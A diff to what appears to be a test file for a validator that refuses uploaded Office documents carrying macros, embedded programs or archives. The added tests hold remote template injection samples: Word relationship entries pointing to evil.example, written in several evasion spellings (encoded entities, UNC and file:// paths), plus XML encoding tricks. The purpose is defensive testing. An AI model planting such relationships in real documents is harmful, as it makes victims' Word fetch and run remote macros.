@@ -22,15 +22,6 @@ test.each([
   ['a document with macros', docm(), '申请.docx', 'macro'],
   ['a program hidden in a plain document', docx({ 'word/vbaProject.bin': 'p' }), '申请.docx', 'macro'],
   ['a sheet of Excel 4 macros', xlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' }), '名单.xlsx', 'macro'],
-  [
-    'a template that is fetched from elsewhere',
-    docx({
-      'word/_rels/settings.xml.rels':
-        '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
-    }),
-    '申请.docx',
-    'macro',
-  ],
   ['a file packed into a document', docx({ 'word/embeddings/oleObject1.bin': 'MZ' }), '申请.docx', 'packed'],
   ['an archive', zipOf({ 'a.exe': 'MZ' }), '申请.docx', 'archive'],
   ['an archive of another kind', Buffer.from('377abcaf271c0004' + '00'.repeat(30), 'hex'), '材料.docx', 'archive'],
@@ -44,6 +35,39 @@ test.each([
   ['a program that is called a document', Buffer.from('MZ' + '\0'.repeat(100)), '申请.docx', 'office'],
 ])('%s is refused', async (_what, file, name, reason) => {
   expect(await kindOf(await file, name)).toBe(reason);
+});
+
+const relationship = (target: string, more = '', name = 'Relationship') =>
+  `<${name} Id="r" Type="http://x/attachedTemplate" ${target} TargetMode="External"${more}/>`;
+test.each([
+  relationship('Target="https://evil.example/t.dotm"'),
+  relationship("Target='https://evil.example/t.dotm'"),
+  relationship('Target = "&#104;ttp://evil.example/t.dotm"'),
+  relationship("Target='&#x68;ttp://evil.example/t.dotm'"),
+  relationship('Target="http://evil.example/t.dotm"', '', 'r:Relationship'),
+  `<Relationship Target='ftp://evil.example/&quot;t.dotm' Type="x/attached&#84;emplate"/>`,
+  relationship(String.raw`Target='\\evil\share\t.dotm'`),
+  relationship('Target="file://evil/t.dotm"'),
+  relationship('Target="file:////evil/t.dotm"'),
+  relationship('Target="//evil.example/t.dotm"'),
+])('a template that is fetched from elsewhere is refused however it is spelled: %s', async (words) => {
+  expect(await kindOf(await docx({ 'word/_rels/settings.xml.rels': words }), '申请.docx')).toBe('macro');
+  expect(await kindOf(await docx({ 'word/_rels/Other.xml.RELS': words }), '申请.docx')).toBe('macro');
+});
+
+test('a template of the own computer is none, and neither is a link', async () => {
+  const own = relationship('Target="file:///C:/Users/a/Normal.dotm"');
+  const link = '<Relationship Type="x/hyperlink" Target="https://a.example" TargetMode="External"/>';
+  const words = `${own}<Relationship Type="x/styles" Target="styles.xml"/>${link}`;
+  expect(await kindOf(await docx({ 'word/_rels/settings.xml.rels': words }))).toBe('docx');
+});
+
+test.each([
+  '<!DOCTYPE a [<!ENTITY h "http">]><a/>',
+  '<?xml version="1.0" encoding="utf-7"?><a/>',
+  Buffer.from('<a/>', 'utf16le').toString('latin1'),
+])('what other programs read otherwise is refused: %j', async (words) => {
+  expect(await kindOf(await docx({ 'word/_rels/settings.xml.rels': words }), '申请.docx')).toBe('damaged');
 });
 
 test('what is broken, and what leads in circles, ends', async () => {
